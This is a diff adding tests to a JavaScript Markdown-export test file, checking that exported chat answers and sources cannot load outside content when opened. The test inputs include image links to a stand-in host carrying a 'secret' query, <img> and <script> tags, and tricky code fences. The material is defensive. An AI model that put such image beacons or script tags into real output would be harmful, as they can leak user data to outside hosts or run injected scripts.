@@ -45,6 +45,62 @@ test('Markdown says where an answer was stopped or failed, and where the context
   for (const part of ['*서버가 위의 대화를 잊었습니다', '*여기서 멈췄습니다.*', '*생성 실패*']) assert.ok(text.includes(part), part);
 });
 
+test('a file of Markdown loads nothing when it is opened, and code stays as it is', () => {
+  setLang('en');
+  const picture = '![x](http://harm.invalid/?q=secret)';
+  const html = '<img src=http://harm.invalid/a><script src=//harm.invalid></script><!-- x -->';
+  const hostile = [
+    `${picture} ![x][ref] ${html}`,
+    `a \\![x](http://harm.invalid)`,
+    '```js',
+    'if (a<b) x = "![y](z)";',
+    '```',
+    picture,
+    '~~~',
+    '```',
+    'code <b>',
+    '~~~',
+    html,
+    ' ```',
+    'inside',
+    '```',
+    picture,
+  ].join('\n');
+  const one = kept('s', 'a', AT, `${picture}\n${html}`, hostile);
+  one.answer.sources.push(source({ title: picture, content: `\`\`\`\n${picture}\n${html}` }));
+  const text = toMarkdown(head('s', AT, `${picture}${html}`), [one]);
+  const code = ['if (a<b) x = "![y](z)";', 'code <b>'];
+  for (const line of code) assert.ok(text.includes(`\n${line}\n`), line);
+  const rest = code.reduce((left, line) => left.replace(line, ''), text);
+  assert.ok(!/!\[/.test(rest), rest);
+  assert.ok(!/(?<!\\)<[a-z/!?]/i.test(rest), rest);
+});
+
+test('what one program may take for code and another for text is text', () => {
+  setLang('en');
+  const picture = '![x](http://harm.invalid/a)';
+  const unclear = [
+    [' ```', 'a', '```', picture],
+    ['- b', '', '  ```', picture],
+    ['> ```', picture],
+    ['``` a`b', picture],
+    ['```', '```` ', picture],
+    ['```', '   ```', picture],
+    ['~~~', '~~~~ x', '~~~', picture],
+    ['1. ~~~', '~~~', picture, '~~~', picture],
+    ['$$', '```', '$$', picture],
+    ['```a\r```\r', picture],
+    ['~~~a\r~~~\r', picture],
+    [`\\${picture}`],
+    ['\\<img src=http://harm.invalid/a>'],
+  ];
+  for (const lines of unclear) {
+    const text = toMarkdown(head('s', AT), [kept('s', 'a', AT, 'q', lines.join('\n'))]);
+    const last = text.trimEnd().split('\n### ')[0].trimEnd().split('\n').at(-1) ?? '';
+    assert.ok(!/!\[|<[a-z]/.test(last), JSON.stringify([lines, last]));
+  }
+});
+
 test('JSON holds title, file, page, quote and offsets of each source', () => {
   const one = kept('s', 'a', AT, '질문');
   one.answer.sources.push(source({ metadata: { source: 'x.txt', chunk_id: 'y' } }));
